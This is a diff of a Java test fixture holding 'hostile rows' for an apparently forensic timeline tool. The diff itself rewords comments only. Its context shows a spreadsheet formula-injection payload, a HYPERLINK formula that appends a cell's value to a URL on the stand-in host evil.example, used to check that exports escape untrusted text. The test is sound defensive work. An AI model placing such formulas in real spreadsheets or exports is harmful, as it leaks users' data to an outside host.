@@ -9,12 +9,12 @@ import whorl.collector.timeline.Row;
 import whorl.evidence.Id;
 import whorl.evidence.Json;
 
-/** Rows as an intruder would write them, and ordinary ones. */
+/** Rows with hostile content, and ordinary ones. */
 final class HostileRows {
   static final Id EVIDENCE = new Id("evidence-0001");
   static final Instant TIME = Instant.parse("2026-11-25T09:35:28.391825818Z");
 
-  /** Each breaks some reader that takes it as it is. */
+  /** Each of these breaks some reader that does not escape it. */
   static final List<String> TEXTS =
       List.of(
           "=HYPERLINK(\"http://evil.example/?\"&A1)",
@@ -55,7 +55,7 @@ final class HostileRows {
     return row(0, TIME, action, values);
   }
 
-  /** A row with this text wherever text may stand. */
+  /** A row with this text in every text column. */
   static Row everywhere(long number, String action, String text) {
     EnumMap<Column, Object> values = new EnumMap<>(Column.class);
     for (Column column : Column.values()) {
